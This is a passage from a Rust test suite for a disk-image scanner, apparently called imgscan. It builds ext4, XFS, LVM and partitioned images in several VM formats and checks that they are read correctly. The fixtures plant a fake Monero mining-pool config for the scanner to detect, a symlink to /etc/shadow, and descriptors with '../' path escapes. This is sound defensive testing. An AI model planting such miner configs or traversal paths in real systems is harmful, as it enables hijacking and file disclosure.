//! VM disk images made by the real tools: `mke2fs -d` fills an ext4
//! filesystem from a directory, `sfdisk` partitions a disk (GPT and MBR),
//! `qemu-img` converts it to qcow2 (plain, deflate- and zstd-compressed),
//! VMDK (monolithicSparse, streamOptimized, monolithicFlat), VHD (fixed,
//! dynamic) and VHDX, and `tar` packs an OVA.
//! A disk reads like the directory it was made from; fstab mounts the
//! other volumes; what is not read is named; broken and unsupported
//! images are clear errors.

use crate::support::*;
use imgscan_fixtures::xorshift;
use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::Command;

const BOOT_UUID: &str = "0e0f1a2b-3c4d-4e5f-8a9b-0c1d2e3f4a5b";

fn disk_tools() -> bool {
    ["mke2fs", "qemu-img", "sfdisk", "mkswap"]
        .iter()
        .all(|tool| have_tool(tool))
}

/// A small system tree: an OS, packages, a miner config, links, a FIFO,
/// a non-UTF-8 name and nesting.
fn system_tree(name: &str) -> PathBuf {
    let root = fresh(name);
    let demo = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/images/demo/layers");
    for dir in ["etc", "var/lib/dpkg", "boot", "srv/a/b/c/d"] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
    }
    std::fs::copy(demo.join("0/etc/os-release"), root.join("etc/os-release")).unwrap();
    std::fs::copy(
        demo.join("1/var/lib/dpkg/status"),
        root.join("var/lib/dpkg/status"),
    )
    .unwrap();
    std::fs::write(
        root.join("etc/fstab"),
        format!("UUID={BOOT_UUID} /boot ext4 defaults 0 2\n"),
    )
    .unwrap();
    std::fs::write(
        root.join("srv/a/b/c/d/pool.json"),
        r#"{"url": "stratum+tcp://pool.supportxmr.com:3333"}"#,
    )
    .unwrap();
    std::os::unix::fs::symlink("/etc/os-release", root.join("etc/link")).unwrap();
    std::os::unix::fs::symlink("../../../../etc/shadow", root.join("srv/a/up")).unwrap();
    std::fs::hard_link(root.join("etc/fstab"), root.join("srv/fstab-hardlink")).unwrap();
    std::fs::write(root.join(OsStr::from_bytes(b"srv/caf\xe9")), "latin-1 name").unwrap();
    sh(Command::new("mkfifo").arg(root.join("srv/pipe")));
    root
}

/// `mke2fs -d SOURCE` into a new image of `size`, with `extra` options.
fn ext4_image(source: &Path, name: &str, size: &str, extra: &[&str]) -> PathBuf {
    ext_image(source, name, size, "ext4", extra)
}

/// `mke2fs -t KIND -d SOURCE` into a new image of `size`.
fn ext_image(source: &Path, name: &str, size: &str, kind: &str, extra: &[&str]) -> PathBuf {
    let image = fresh(name);
    imgscan_fixtures::ext::make(source, &image, size, kind, extra);
    image
}

fn qcow2(raw: &Path, name: &str, options: &[&str]) -> PathBuf {
    convert(raw, "qcow2", name, options)
}

/// `qemu-img convert -O FORMAT [options] RAW NAME`.
fn convert(raw: &Path, format: &str, name: &str, options: &[&str]) -> PathBuf {
    let out = fresh(name);
    sh(Command::new("qemu-img")
        .args(["convert", "-O", format])
        .args(options)
        .arg(raw)
        .arg(&out));
    out
}

/// An XFS image of `size` filled from `source` through a loop mount
/// (`mkfs_options`: e.g. `-m crc=0` for a v4 filesystem); `None` where
/// this machine cannot mount one (CI runs as root and can).
fn xfs_image(source: &Path, name: &str, size: &str, mkfs_options: &[&str]) -> Option<PathBuf> {
    let image = fresh(name);
    sh(Command::new("truncate").args(["-s", size]).arg(&image));
    sh(Command::new("mkfs.xfs")
        .args(["-q", "-f"])
        .args(mkfs_options)
        .arg(&image));
    let mount = fresh("xfs-mount");
    std::fs::create_dir_all(&mount).unwrap();
    let mounted = Command::new("mount")
        .args(["-o", "loop"])
        .arg(&image)
        .arg(&mount)
        .status()
        .is_ok_and(|s| s.success());
    if !mounted {
        return unavailable("an XFS image cannot be mounted through a loop device (run as root)");
    }
    let copied = Command::new("cp")
        .arg("-a")
        .arg(format!("{}/.", source.display()))
        .arg(&mount)
        .status()
        .is_ok_and(|s| s.success());
    sh(Command::new("umount").arg(&mount));
    assert!(copied, "copying into the XFS image");
    Some(image)
}

/// An OVA holding `disks` as members `disk1.vmdk`, `disk2.vmdk`, … (its
/// descriptor names them `hrefs`).
fn ova(disks: &[&Path], hrefs: &[&str]) -> PathBuf {
    let dir = fresh("ova-parts");
    std::fs::create_dir_all(&dir).unwrap();
    let files: String = hrefs
        .iter()
        .enumerate()
        .map(|(i, href)| format!(r#"<File ovf:href="{href}" ovf:id="file{i}"/>"#))
        .collect();
    std::fs::write(
        dir.join("vm.ovf"),
        format!(
            r#"<?xml version="1.0"?><Envelope xmlns:ovf="http://schemas.dmtf.org/ovf/envelope/1"><References>{files}</References></Envelope>"#
        ),
    )
    .unwrap();
    let mut members = vec!["vm.ovf".to_string()];
    for (i, disk) in disks.iter().enumerate() {
        let name = format!("disk{}.vmdk", i + 1);
        std::fs::copy(disk, dir.join(&name)).unwrap();
        members.push(name);
    }
    let out = fresh("appliance.ova");
    sh(Command::new("tar")
        .arg("-cf")
        .arg(&out)
        .arg("-C")
        .arg(&dir)
        .args(&members));
    out
}

/// The same raw disk in every other image format imgscan reads.
fn every_format(raw: &Path) -> Vec<PathBuf> {
    let stream = convert(
        raw,
        "vmdk",
        "stream.vmdk",
        &["-o", "subformat=streamOptimized"],
    );
    vec![
        qcow2(raw, "plain.qcow2", &[]),
        qcow2(raw, "deflate.qcow2", &["-c"]),
        qcow2(raw, "zstd.qcow2", &["-c", "-o", "compression_type=zstd"]),
        convert(raw, "vmdk", "sparse.vmdk", &[]),
        convert(
            raw,
            "vmdk",
            "flat.vmdk",
            &["-o", "subformat=monolithicFlat"],
        ),
        convert(
            raw,
            "vpc",
            "fixed.vhd",
            &["-o", "subformat=fixed,force_size=on"],
        ),
        convert(raw, "vpc", "dynamic.vhd", &["-o", "force_size=on"]),
        convert(raw, "vhdx", "disk.vhdx", &[]),
        ova(&[&stream], &["disk1.vmdk"]),
        stream,
    ]
}

fn files(target: &Path) -> Vec<(String, u64, String, u64, Option<u64>)> {
    file_rows(&inspect(target, &[]))
        .into_iter()
        .filter(|row| !row.0.contains("lost+found"))
        .collect()
}

#[test]
fn a_disk_reads_like_the_directory_it_was_made_from() {
    if !disk_tools() {
        return;
    }
    let tree = system_tree("disk-tree");
    let raw = ext4_image(&tree, "bare.img", "16M", &[]);
    let expected = files(&tree);
    assert!(
        expected.iter().any(|r| r.0 == "/srv/caf\\xe9"),
        "{expected:?}"
    );
    let (dir_report, _) = scan_json(&tree);
    for image in std::iter::once(raw.clone()).chain(every_format(&raw)) {
        assert_eq!(files(&image), expected, "{}", image.display());
        let (report, done) = scan_json(&image);
        assert_eq!(done.code, 1, "the miner config fails the gate");
        assert_eq!(report["target"]["kind"], "disk");
        assert_eq!(report["packages"], dir_report["packages"]);
        assert_eq!(report["malware"], dir_report["malware"]);
        assert_eq!(report["summary"]["skipped"]["special"], 1, "the FIFO");
        assert_eq!(
            report["target"]["os"]["id"],
            "debian",
            "{}",
            image.display()
        );
    }
}

#[test]
fn xfs_volumes_read_like_the_directory_they_were_made_from() {
    if !disk_tools() || !have_tool("mkfs.xfs") {
        return;
    }
    let tree = system_tree("xfs-tree");
    // A leaf/node directory, and a file of many extents (a B+tree fork).
    std::fs::create_dir_all(tree.join("srv/many")).unwrap();
    for i in 0..3000 {
        std::fs::write(
            tree.join(format!("srv/many/entry-with-a-long-name-{i}")),
            i.to_string(),
        )
        .unwrap();
    }
    let sparse = std::fs::File::create(tree.join("srv/sparse")).unwrap();
    use std::os::unix::fs::FileExt;
    for i in 0..400u64 {
        sparse
            .write_all_at(&[(i % 250) as u8 + 1; 4096], i * 65536)
            .unwrap();
    }
    // A rule matches its last extent: the malware entry's digest (equal to
    // the directory's) proves the tree-mapped content reads right.
    sparse
        .write_all_at(b"stratum+tcp://pool.supportxmr.com:3333", 400 * 65536)
        .unwrap();
    let expected = files(&tree);
    let (dir_report, _) = scan_json(&tree);
    let Some(image) = xfs_image(&tree, "v5.xfs", "300M", &[]) else {
        return;
    };
    for target in [image.clone(), qcow2(&image, "v5.qcow2", &[])] {
        assert_eq!(files(&target), expected, "{}", target.display());
        let (report, done) = scan_json(&target);
        assert_eq!(done.code, 1, "the miner config fails the gate");
        assert_eq!(report["packages"], dir_report["packages"]);
        assert_eq!(report["malware"], dir_report["malware"]);
        assert_eq!(report["target"]["os"]["id"], "debian");
    }
}

/// XFS logs are not replayed: a volume whose log still holds changes (a
/// copy of a running system) is read as its metadata stands, and the
/// report says so. `xfs_repair -n` is the oracle of which log is dirty:
/// one left by a shutdown that flushed the log but not the metadata, not
/// one left by a clean unmount.
#[test]
fn an_xfs_log_left_dirty_is_named() {
    if !disk_tools() || !have_tool("mkfs.xfs") || !have_tool("xfs_repair") {
        return;
    }
    let tree = system_tree("xfs-log-tree");
    let Some(clean) = xfs_image(&tree, "clean.xfs", "300M", &[]) else {
        return;
    };
    let dirty = fresh("dirty.xfs");
    std::fs::copy(&clean, &dirty).unwrap();
    let mount = fresh("xfs-dirty-mount");
    std::fs::create_dir_all(&mount).unwrap();
    sh(Command::new("mount")
        .args(["-o", "loop"])
        .arg(&dirty)
        .arg(&mount));
    std::fs::write(mount.join("etc/late"), "written after the last sync").unwrap();
    let shutdown = Command::new("xfs_io")
        .args(["-x", "-c", "shutdown -f"])
        .arg(&mount)
        .status();
    sh(Command::new("umount").arg(&mount));
    assert!(shutdown.is_ok_and(|s| s.success()));
    let says_dirty = |image: &Path| {
        let out = Command::new("xfs_repair")
            .arg("-n")
            .arg(image)
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stderr).contains("valuable metadata changes in a log")
    };
    assert!(
        says_dirty(&dirty) && !says_dirty(&clean),
        "the oracle's premise"
    );
    let unknowns = |image: &Path| inspect(image, &[])["unknowns"].to_string();
    assert!(
        unknowns(&dirty).contains("XFS log holds changes"),
        "{}",
        unknowns(&dirty)
    );
    assert!(
        !unknowns(&clean).contains("XFS log"),
        "{}",
        unknowns(&clean)
    );
}

#[test]
fn v4_xfs_volumes_are_read_too() {
    if !disk_tools() || !have_tool("mkfs.xfs") {
        return;
    }
    // This kernel no longer mounts v4 XFS: mkfs.xfs fills it from a
    // protofile instead.
    let tree = fresh("xfs-v4-tree");
    std::fs::create_dir_all(tree.join("etc")).unwrap();
    std::fs::create_dir_all(tree.join("srv")).unwrap();
    std::fs::write(tree.join("etc/os-release"), "ID=rocky\nVERSION_ID=8.9\n").unwrap();
    std::fs::write(
        tree.join("srv/pool.json"),
        r#"{"url": "stratum+tcp://pool.supportxmr.com:3333"}"#,
    )
    .unwrap();
    std::os::unix::fs::symlink("/etc/os-release", tree.join("etc/link")).unwrap();
    let source = |name: &str| tree.join(name).display().to_string();
    let proto = fresh("proto.txt");
    std::fs::write(
        &proto,
        format!(
            "/boot\n0 0\nd--755 0 0\netc d--755 0 0\nos-release ---644 0 0 {}\nlink l--777 0 0 /etc/os-release\n$\nsrv d--755 0 0\npool.json ---600 0 0 {}\n$\n$\n",
            source("etc/os-release"),
            source("srv/pool.json")
        ),
    )
    .unwrap();
    let image = fresh("v4.xfs");
    sh(Command::new("truncate").args(["-s", "300M"]).arg(&image));
    sh(Command::new("mkfs.xfs")
        .args(["-q", "-f", "-m", "crc=0", "-p"])
        .arg(&proto)
        .arg(&image));
    let rows: Vec<(String, String, u64)> =
        files(&image).into_iter().map(|r| (r.0, r.2, r.3)).collect();
    let expected: Vec<(String, String, u64)> =
        files(&tree).into_iter().map(|r| (r.0, r.2, r.3)).collect();
    assert_eq!(rows, expected);
    let (report, done) = scan_json(&image);
    assert_eq!(done.code, 1, "the miner config fails the gate");
    assert_eq!(report["target"]["os"]["id"], "rocky");
}

#[test]
fn an_ova_of_two_disks_mounts_the_second_where_fstab_says() {
    if !disk_tools() {
        return;
    }
    const DATA_UUID: &str = "5a6b7c8d-1e2f-4a3b-9c8d-7e6f5a4b3c2d";
    let tree = system_tree("ova-root");
    let fstab = tree.join("etc/fstab");
    std::fs::write(
        &fstab,
        format!("UUID={DATA_UUID} /srv/data ext4 defaults 0 2\n"),
    )
    .unwrap();
    let data_tree = fresh("ova-data");
    std::fs::create_dir_all(&data_tree).unwrap();
    std::fs::write(data_tree.join("db.conf"), "on the second disk").unwrap();
    let root = ext4_image(&tree, "ova-root.img", "16M", &[]);
    let data = ext4_image(&data_tree, "ova-data.img", "4M", &["-U", DATA_UUID]);
    let stream =
        |raw: &Path, name: &str| convert(raw, "vmdk", name, &["-o", "subformat=streamOptimized"]);
    let appliance = ova(
        &[&stream(&root, "r.vmdk"), &stream(&data, "d.vmdk")],
        &["disk1.vmdk", "disk2.vmdk"],
    );
    let report = inspect(&appliance, &[]);
    assert_eq!(report["target"]["os"]["id"], "debian");
    assert!(live(&report, "/srv/data/db.conf").is_some());
    // A referenced disk the OVA does not hold is a clear error.
    let missing = ova(&[&stream(&root, "r2.vmdk")], &["disk1.vmdk", "disk2.vmdk"]);
    let err = fails(&[missing.as_os_str()]);
    assert!(err.contains("disk2.vmdk"), "{err}");
}

/// The spare volume's PARTUUID in the GPT and MBR disks.
const SPARE_GPT: &str = "6d1a0c2e-94f3-4b7a-9c55-1e2f3a4b5c6d";
const SPARE_MBR: &str = "0a0b0c0d-03";

/// A disk of `label` (`gpt` or `dos`) holding a boot volume, the root
/// volume, a spare ext volume (mounted at `/srv/spare` by its PARTUUID
/// when `mount_spare`, else named nowhere), and swap.
fn partitioned(label: &str, name: &str, mount_spare: bool) -> PathBuf {
    let tree = system_tree(&format!("{name}-tree"));
    let gpt = label == "gpt";
    if mount_spare {
        let line = format!(
            "PARTUUID={} /srv/spare ext4 defaults 0 2\n",
            if gpt { SPARE_GPT } else { SPARE_MBR }
        );
        let fstab = tree.join("etc/fstab");
        let mut text = std::fs::read_to_string(&fstab).unwrap();
        text.push_str(&line);
        std::fs::write(&fstab, text).unwrap();
    }
    let boot_tree = fresh(&format!("{name}-boot"));
    std::fs::create_dir_all(&boot_tree).unwrap();
    std::fs::write(boot_tree.join("vmlinuz"), "not really a kernel").unwrap();
    let spare_tree = fresh(&format!("{name}-spare"));
    std::fs::create_dir_all(&spare_tree).unwrap();
    std::fs::write(spare_tree.join("data"), "unmounted").unwrap();
    let boot = ext4_image(
        &boot_tree,
        &format!("{name}-boot.img"),
        "4M",
        &["-U", BOOT_UUID],
    );
    let root = ext4_image(&tree, &format!("{name}-root.img"), "16M", &[]);
    let spare = ext4_image(&spare_tree, &format!("{name}-spare.img"), "2M", &[]);
    let swap = fresh(&format!("{name}-swap.img"));
    std::fs::write(&swap, vec![0u8; 1 << 20]).unwrap();
    sh(Command::new("mkswap").arg("-q").arg(&swap));
    let (linux, swap_type, label_id, spare_id) = if gpt {
        ("L", "S", String::new(), format!(", uuid={SPARE_GPT}"))
    } else {
        (
            "83",
            "82",
            "label-id: 0x0a0b0c0d\n".to_string(),
            String::new(),
        )
    };
    disk_of(
        name,
        26 << 20,
        &format!("label: {label}\n{label_id}"),
        &[
            (&boot, 2048, 8192, linux.to_string()),
            (&root, 10240, 32768, linux.to_string()),
            (&spare, 43008, 4096, format!("{linux}{spare_id}")),
            (&swap, 47104, 2048, swap_type.to_string()),
        ],
    )
}

/// A disk of `size` bytes partitioned by `sfdisk` (`header`, then one line
/// per `(image, start sector, sectors, type)`), each image written into its
/// partition.
fn disk_of(name: &str, size: usize, header: &str, parts: &[(&Path, u64, u64, String)]) -> PathBuf {
    let disk = fresh(name);
    std::fs::write(&disk, vec![0u8; size]).unwrap();
    let mut layout = header.to_string();
    for (_, start, sectors, kind) in parts {
        layout.push_str(&format!("start={start}, size={sectors}, type={kind}\n"));
    }
    let mut sfdisk = Command::new("sfdisk")
        .arg("-q")
        .arg(&disk)
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    sfdisk
        .stdin
        .take()
        .unwrap()
        .write_all(layout.as_bytes())
        .unwrap();
    assert!(sfdisk.wait().unwrap().success());
    for (image, sector, _, _) in parts {
        let bytes = std::fs::read(image).unwrap();
        let file = std::fs::OpenOptions::new().write(true).open(&disk).unwrap();
        std::os::unix::fs::FileExt::write_all_at(&file, &bytes, sector * 512).unwrap();
    }
    disk
}

/// An LVM physical volume of `size` made by `pvcreate` on a loop device.
fn physical_volume(name: &str, size: &str) -> PathBuf {
    let pv = fresh(name);
    sh(Command::new("truncate").args(["-s", size]).arg(&pv));
    let out = Command::new("losetup")
        .args(["-f", "--show"])
        .arg(&pv)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let loop_device = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let made = Command::new("pvcreate")
        .args(["-q", "-y", &loop_device])
        .env("LVM_SUPPRESS_FD_WARNINGS", "1")
        .status()
        .unwrap()
        .success();
    let _ = Command::new("losetup").args(["-d", &loop_device]).status();
    assert!(made, "pvcreate on {loop_device}");
    pv
}

/// LVM commands that leave nothing behind on the host.
fn lvm(args: &[&str]) -> Command {
    let mut cmd = Command::new(args[0]);
    // Without device-mapper, lvm2 warns on every call: kept off the log.
    cmd.args(&args[1..])
        .args(["--config", "backup { backup = 0 archive = 0 }"])
        .env("LVM_SUPPRESS_FD_WARNINGS", "1")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    cmd
}

/// A physical volume of 40 MiB holding the group `group` (extents of 1
/// MiB from 1 MiB on) with the logical volumes `root` (extents 0–19,
/// linear), `data` (extents 20–23 and 30–31, two segments) and `blank` (a
/// `zero` segment, which is named, not read), written into the metadata by
/// `vgcfgrestore` (creating volumes needs device-mapper, which is absent).
fn volume_group(group: &str) -> PathBuf {
    let pv = fresh("vg.img");
    sh(Command::new("truncate").args(["-s", "40M"]).arg(&pv));
    let out = Command::new("losetup")
        .args(["-f", "--show"])
        .arg(&pv)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let loop_device = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let backup = fresh("vg.txt");
    let made = (|| {
        lvm(&["pvcreate", "-q", "-y", &loop_device])
            .status()
            .ok()?
            .success()
            .then_some(())?;
        lvm(&["vgcreate", "-q", "-s", "1M", group, &loop_device])
            .status()
            .ok()?
            .success()
            .then_some(())?;
        let file = backup.to_str()?;
        lvm(&["vgcfgbackup", "-q", "-f", file, group])
            .status()
            .ok()?
            .success()
            .then_some(())?;
        let text = std::fs::read_to_string(&backup).ok()?;
        let segment = |n: u32, start: u32, count: u32, pe: u32| {
            format!(
                "segment{n} {{ start_extent = {start} extent_count = {count} type = \"striped\" stripe_count = 1 stripes = [ \"pv0\", {pe} ] }}\n"
            )
        };
        let lvs = format!(
            "logical_volumes {{\nroot {{ id = \"aaaaaa-aaaa-aaaa-aaaa-aaaa-aaaa-aaaaa1\" status = [\"READ\", \"WRITE\", \"VISIBLE\"] flags = [] segment_count = 1\n{}}}\ndata {{ id = \"aaaaaa-aaaa-aaaa-aaaa-aaaa-aaaa-aaaaa2\" status = [\"READ\", \"WRITE\", \"VISIBLE\"] flags = [] segment_count = 2\n{}{}}}\nblank {{ id = \"aaaaaa-aaaa-aaaa-aaaa-aaaa-aaaa-aaaaa3\" status = [\"READ\", \"WRITE\", \"VISIBLE\"] flags = [] segment_count = 1\nsegment1 {{ start_extent = 0 extent_count = 2 type = \"zero\" }}\n}}\n}}\n",
            segment(1, 0, 20, 0),
            segment(1, 0, 4, 20),
            segment(2, 4, 2, 30),
        );
        let at = text.rfind('}')?;
        let edited = format!("{}{lvs}{}", &text[..at], &text[at..]);
        std::fs::write(&backup, edited).ok()?;
        lvm(&["vgcfgrestore", "-q", "-f", file, group])
            .status()
            .ok()?
            .success()
            .then_some(())
    })();
    let _ = Command::new("losetup").args(["-d", &loop_device]).status();
    assert!(made.is_some(), "making the volume group on {loop_device}");
    pv
}

/// The system tree on LVM as RHEL-family and Ubuntu images lay it out:
/// `/boot` on a partition, the root and `/srv/data` on logical volumes of
/// `group` that fstab mounts by their device paths.
fn lvm_system(group: &str, name: &str) -> PathBuf {
    let tree = system_tree("lvm-root");
    let fstab = tree.join("etc/fstab");
    let mut text = std::fs::read_to_string(&fstab).unwrap();
    text.push_str(&format!("/dev/mapper/{group}-root / ext4 defaults 0 1\n/dev/{group}/data /srv/data ext4 defaults 0 2\n"));
    std::fs::write(&fstab, text).unwrap();
    let data_tree = fresh("lvm-data");
    std::fs::create_dir_all(&data_tree).unwrap();
    std::fs::write(data_tree.join("db.conf"), "on a logical volume").unwrap();
    let root = ext4_image(&tree, "lvm-root.img", "20M", &[]);
    let data = ext4_image(&data_tree, "lvm-data.img", "6M", &[]);
    let pv = volume_group(group);
    let file = std::fs::OpenOptions::new().write(true).open(&pv).unwrap();
    use std::os::unix::fs::FileExt;
    // Extents start at 1 MiB; `data` is extents 20–23, then 30–31.
    file.write_all_at(&std::fs::read(&root).unwrap(), 1 << 20)
        .unwrap();
    let data_bytes = std::fs::read(&data).unwrap();
    file.write_all_at(&data_bytes[..4 << 20], 21 << 20).unwrap();
    file.write_all_at(&data_bytes[4 << 20..], 31 << 20).unwrap();
    let boot_tree = fresh("lvm-boot2");
    std::fs::create_dir_all(&boot_tree).unwrap();
    std::fs::write(boot_tree.join("vmlinuz"), "not really a kernel").unwrap();
    let boot = ext4_image(&boot_tree, "lvm-boot2.img", "4M", &["-U", BOOT_UUID]);
    disk_of(
        name,
        48 << 20,
        "label: gpt\n",
        &[
            (&boot, 2048, 8192, "L".into()),
            (
                &pv,
                10240,
                81920,
                "E6D6D379-F507-44C2-A23C-238F2A3DF928".into(),
            ),
        ],
    )
}

#[test]
fn logical_volumes_are_read_like_partitions() {
    if !disk_tools() || !have_tool("pvcreate") {
        return;
    }
    let group = format!("imgscan{}", std::process::id());
    let disk = lvm_system(&group, "lvm-system.img");
    for image in [disk.clone(), convert(&disk, "vmdk", "lvm.vmdk", &[])] {
        let report = inspect(&image, &[]);
        assert_eq!(
            report["target"]["os"]["id"],
            "debian",
            "{}",
            image.display()
        );
        for path in ["/etc/os-release", "/boot/vmlinuz", "/srv/data/db.conf"] {
            assert!(
                live(&report, path).is_some(),
                "{path} in {}",
                image.display()
            );
        }
        let unknowns = report["unknowns"].to_string();
        assert!(
            unknowns.contains(&format!("logical volume {group}/blank"))
                && unknowns.contains("a `zero` segment"),
            "{unknowns}"
        );
    }
}

#[test]
fn a_disk_whose_root_was_not_read_is_never_a_pass() {
    if !disk_tools() || !have_tool("pvcreate") {
        return;
    }
    // /boot on ext4, the root in LVM (as RHEL-family images have it).
    let boot_tree = fresh("lvm-boot");
    std::fs::create_dir_all(&boot_tree).unwrap();
    std::fs::write(boot_tree.join("vmlinuz"), "not really a kernel").unwrap();
    let boot = ext4_image(&boot_tree, "lvm-boot.img", "4M", &[]);
    let pv = physical_volume("lvm-pv.img", "8M");
    let disk = disk_of(
        "lvm-disk.img",
        16 << 20,
        "label: dos\n",
        &[
            (&boot, 2048, 8192, "83".into()),
            (&pv, 10240, 16384, "8e".into()),
        ],
    );
    let err = fails(&[disk.as_os_str()]);
    assert!(
        err.contains("no OS root found") && err.contains("partition 2 (LVM physical volume"),
        "{err}"
    );
    assert!(err.contains("--allow-incomplete"), "{err}");
    let report = inspect(&disk, &["--allow-incomplete"]);
    assert!(
        report["unknowns"]
            .to_string()
            .contains("LVM physical volume")
    );
    assert!(
        live(&report, "/vmlinuz").is_some(),
        "what could be read was"
    );
}

#[test]
fn partitions_are_found_and_fstab_mounts_them() {
    if !disk_tools() {
        return;
    }
    for label in ["gpt", "dos"] {
        let raw = partitioned(label, &format!("{label}.img"), false);
        for image in [raw.clone(), qcow2(&raw, &format!("{label}.qcow2"), &["-c"])] {
            let report = inspect(&image, &[]);
            let paths: Vec<String> = file_rows(&report).into_iter().map(|r| r.0).collect();
            assert!(
                paths.contains(&"/boot/vmlinuz".to_string())
                    && paths.contains(&"/etc/os-release".to_string()),
                "{label}: the root and the /boot fstab mounts: {paths:?}"
            );
            assert!(!paths.iter().any(|p| p.ends_with("/data")), "{paths:?}");
            let unknowns = report["unknowns"].to_string();
            assert!(
                unknowns.contains("partition 3") && unknowns.contains("does not mount"),
                "{unknowns}"
            );
            assert!(
                unknowns.contains("partition 4") && unknowns.contains("swap"),
                "{unknowns}"
            );
        }
    }
}

#[test]
fn broken_and_unsupported_disks_are_clear_errors() {
    if !disk_tools() {
        return;
    }
    let tree = system_tree("hostile-tree");
    let raw = ext4_image(&tree, "hostile.img", "16M", &[]);
    let bytes = std::fs::read(&raw).unwrap();

    let truncated = fresh("truncated.img");
    std::fs::write(&truncated, &bytes[..200_000]).unwrap();
    let err = fails(&[truncated.as_os_str()]);
    assert!(err.contains("truncated"), "{err}");

    let plain = qcow2(&raw, "base.qcow2", &[]);
    let cut = fresh("cut.qcow2");
    std::fs::write(&cut, &std::fs::read(&plain).unwrap()[..300_000]).unwrap();
    let err = fails(&[OsStr::new("inspect"), cut.as_os_str()]);
    assert!(err.contains("cut.qcow2") && err.contains("qcow2"), "{err}");

    let overlay = fresh("overlay.qcow2");
    sh(Command::new("qemu-img")
        .args(["create", "-q", "-f", "qcow2", "-F", "qcow2", "-b"])
        .arg(&plain)
        .arg(&overlay));
    let err = fails(&[overlay.as_os_str()]);
    assert!(err.contains("backing file"), "{err}");

    let base = convert(&raw, "vmdk", "base.vmdk", &[]);
    let child = fresh("child.vmdk");
    sh(Command::new("qemu-img")
        .args(["create", "-q", "-f", "vmdk", "-F", "vmdk", "-b"])
        .arg(&base)
        .arg(&child));
    let err = fails(&[child.as_os_str()]);
    assert!(err.contains("differencing VMDK"), "{err}");

    // A descriptor or an OVF that names a file outside: refused, unopened.
    let flat = convert(
        &raw,
        "vmdk",
        "outside.vmdk",
        &["-o", "subformat=monolithicFlat"],
    );
    let text = std::fs::read_to_string(&flat).unwrap();
    let escaping = text.replace("\"outside-flat.vmdk\"", "\"../outside-flat.vmdk\"");
    assert_ne!(text, escaping);
    std::fs::write(&flat, escaping).unwrap();
    let err = fails(&[flat.as_os_str()]);
    assert!(err.contains("not a file beside the descriptor"), "{err}");
    let stream = convert(&raw, "vmdk", "s.vmdk", &["-o", "subformat=streamOptimized"]);
    let err = fails(&[ova(&[&stream], &["../disk1.vmdk"]).as_os_str()]);
    assert!(err.contains("not a member name"), "{err}");

    // Cut short: the VHD's footer, the stream's end are gone.
    for (image, name) in [
        (convert(&raw, "vpc", "d.vhd", &[]), "cut.vhd"),
        (stream, "cut.vmdk"),
    ] {
        let whole = std::fs::read(&image).unwrap();
        let cut = fresh(name);
        std::fs::write(&cut, &whole[..whole.len() / 2]).unwrap();
        let err = fails(&[OsStr::new(&format!("disk:{}", cut.display()))]);
        assert!(err.contains("truncated"), "{err}");
    }

    let mut no_fs = vec![0u8; 1 << 20];
    no_fs[510] = 0x55;
    no_fs[511] = 0xaa;
    let empty = fresh("empty-mbr.img");
    std::fs::write(&empty, &no_fs).unwrap();
    let forced = format!("disk:{}", empty.display());
    let err = fails(&[OsStr::new(&forced)]);
    assert!(err.contains("no ext2/3/4 or XFS filesystem"), "{err}");

    // Metadata overwritten with noise past the superblock: an error or
    // unknowns, never a panic or a hang.
    let mut noisy = bytes.clone();
    let mut next = xorshift(0x2545_f491_4f6c_dd1d);
    for byte in &mut noisy[8192..262_144] {
        *byte = next() as u8;
    }
    let corrupt = fresh("corrupt.img");
    std::fs::write(&corrupt, noisy).unwrap();
    let done = run(&[OsStr::new("inspect"), corrupt.as_os_str()]);
    assert!(
        (done.code == 0 || done.code == 2) && !done.stderr.contains("panicked"),
        "{} {}",
        done.code,
        done.stderr
    );
}

/// Files are opened by the inode numbers their directory gives, never
/// looked up by name: a directory of thousands of entries without a hash
/// index is read whole, in time linear in its size.
#[test]
fn a_huge_unindexed_directory_is_read_whole() {
    if !disk_tools() {
        return;
    }
    let tree = fresh("huge-dir-tree");
    std::fs::create_dir_all(tree.join("d")).unwrap();
    for i in 0..8000 {
        std::fs::write(tree.join(format!("d/f{i:05}")), "x").unwrap();
    }
    let image = ext4_image(
        &tree,
        "huge-dir.img",
        "32M",
        &["-N", "9000", "-O", "^dir_index"],
    );
    let report = inspect(&image, &[]);
    assert_eq!(
        report["summary"]["totals"]["paths"],
        8001 + 1,
        "every name is listed"
    );
    assert_eq!(report["unknowns"], serde_json::json!([]));
    assert_eq!(report["summary"]["skipped"]["unreadable"], 0);
    assert_eq!(
        files(&image),
        files(&tree),
        "every file reads like its copy"
    );
}

/// Every ext layout mke2fs makes (`imgscan_fixtures::ext::LAYOUTS`)
/// reads like the tree it was made from; a file large enough to be
/// fetched in pieces is scanned whole.
#[test]
fn every_ext_layout_reads_like_the_directory() {
    if !disk_tools() {
        return;
    }
    let tree = system_tree("ext-layouts-tree");
    // Random bytes with a miner's pool line across the 2 MiB mark: it is
    // found only when the pieces the readers fetch join up in order.
    let mut next = xorshift(7);
    let mut big: Vec<u8> = (0..3 << 20).map(|_| next() as u8).collect();
    let pool = b"stratum+tcp://pool.supportxmr.com:3333 --donate-level 1";
    big[(2 << 20) - 20..(2 << 20) - 20 + pool.len()].copy_from_slice(pool);
    std::fs::write(tree.join("srv/indirect.bin"), &big).unwrap();
    std::fs::write(tree.join("srv/tiny"), "inline\n").unwrap();
    std::fs::create_dir_all(tree.join("srv/small-dir")).unwrap();
    std::fs::write(tree.join("srv/small-dir/a"), "a").unwrap();
    let expected = files(&tree);
    let (dir_report, _) = scan_json(&tree);
    let found = dir_report["malware"].to_string();
    assert!(found.contains("/srv/indirect.bin"), "{found}");
    for (i, (kind, size, extra)) in imgscan_fixtures::ext::LAYOUTS.into_iter().enumerate() {
        let image = ext_image(&tree, &format!("layout-{i}.img"), size, kind, extra);
        assert_eq!(files(&image), expected, "{kind} {extra:?}");
        let (report, _) = scan_json(&image);
